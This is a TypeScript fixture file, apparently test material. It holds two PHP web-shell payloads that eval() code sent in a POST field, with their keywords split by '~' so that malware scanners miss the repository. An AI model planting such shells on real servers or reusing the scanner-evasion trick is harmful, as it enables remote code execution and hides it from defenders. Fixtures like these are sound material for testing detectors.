/** A text whose telling words are cut by `~`, put together: no scanner takes the files of this repository for malware. */
export function inertText(text: string): string {
  return text.replaceAll('~', '')
}

/** What payloads would run when they are no longer packed: it asks for a field that no form has. */
export const shellCode = inertText("if(isset($_P~OST['hf_test'])){e~val($_P~OST['hf_test']);}")

/** The same as code that may stand beside others of its kind. */
export const secondStage = inertText("@e~val($_P~OST['hf_test']);")
